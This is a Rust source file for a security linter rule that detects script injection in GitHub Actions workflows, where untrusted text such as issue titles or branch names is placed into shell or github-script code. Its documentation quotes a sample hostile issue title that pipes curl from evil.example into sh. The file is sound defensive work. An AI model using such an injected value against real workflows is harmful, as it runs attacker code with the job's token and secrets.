//! The title of an issue becomes a command.

use crate::{
    finding::{Confidence, Finding, Place, Severity},
    project::{
        Project,
        client::Word,
        expression::{self, Expression},
        workflow::{Job, Step, Workflow},
        workflow_gate::{asks_who, open_event},
    },
    rules::{Rule, context},
};

use super::{has_workflow, job_text, workflows};

pub(super) static RULE: Rule = Rule {
    id: "workflow-injection",
    group: "workflows",
    title: "a stranger's text becomes part of a script",
    severity: Severity::High,
    confidence: Confidence::High,
    languages: &[],
    since: "0.1.0",
    references: &["CWE-78", "CWE-94", "MCP05", "GitHub: script injections"],
    docs: "
An expression such as `${{ github.event.issue.title }}` is replaced before the shell, or the script of `github-script`, reads
the text. Whoever opens an issue with the title `\"; curl evil.example | sh; \"` runs that in the job: with its token, and with
the secrets it is given. Branch names (`github.head_ref`) may hold `$(...)` as well.

Pass the text through a variable, which no shell parses again:

    - env:
        TITLE: ${{ github.event.issue.title }}
      run: echo \"$TITLE\"

Numbers, commits and other fields that GitHub fills itself are not reported, nor are questions (`contains(...)`, `==`), whose
answer is yes or no. For events without rights (`pull_request`) severity is medium, for those that only people with access cause
it is low. `${{ env.TITLE }}` in a script is the same as the field itself and is reported, too. Outputs of earlier steps are not
followed.
",
    applies: has_workflow,
    check,
};

fn check(project: &Project, findings: &mut Vec<Finding>) {
    for workflow in workflows(project) {
        for (job, step) in workflow.steps() {
            let script = step.input("script").filter(|_| step.action() == Some("actions/github-script"));
            let Some(script) = step.run.as_ref().or(script) else { continue };
            let Some((field, place)) = injected(project, workflow, job, step, script) else { continue };
            let mut finding = context::finding(
                project,
                &RULE,
                place,
                format!("`{field}` is written into the script before it is parsed"),
                "whoever chooses that text runs commands in the job, with its token and secrets",
                "pass it through `env:` and use the variable, in quotes",
            );
            finding.severity = finding.severity.min(severity(project, workflow, job, step));
            findings.push(finding);
        }
    }
}

/// The first field of a stranger in a script, with the place of its expression.
fn injected(project: &Project, workflow: &Workflow, job: &Job, step: &Step, script: &Word) -> Option<(String, Place)> {
    let written = project.file(&script.place.path)?.text.get(script.place.start..script.place.end)?;
    expression::all(written).into_iter().find_map(|found: Expression<'_>| {
        let field = expression::stranger(found.code).or_else(|| through_variable(workflow, job, step, found.code))?;
        let start = script.place.start;
        Some((field, Place::new(&script.place.path, start + found.span.start, start + found.span.end)))
    })
}

/// `env.NAME` where that variable holds the field of a stranger.
fn through_variable(workflow: &Workflow, job: &Job, step: &Step, code: &str) -> Option<String> {
    let name = code.strip_prefix("env.")?;
    let mut all = step.environment.iter().chain(&job.environment).chain(&workflow.environment);
    let (_, value) = all.find(|(key, _)| key == name)?;
    expression::all(&value.text).into_iter().find_map(|found| expression::stranger(found.code))
}

fn severity(project: &Project, workflow: &Workflow, job: &Job, step: &Step) -> Severity {
    let from_forks = ["pull_request", "pull_request_review", "pull_request_review_comment", "workflow_call"];
    if asks_who(workflow, job, Some(step)) {
        return Severity::Low;
    }
    if open_event(workflow).is_some() {
        let harmless = !workflow.permissions_of(job).may_write() && !job_text(project, job).contains("secrets.");
        return if harmless { Severity::Medium } else { Severity::High };
    }
    let fork = workflow.is_action || from_forks.iter().any(|event| workflow.trigger(event).is_some());
    if fork { Severity::Medium } else { Severity::Low }
}
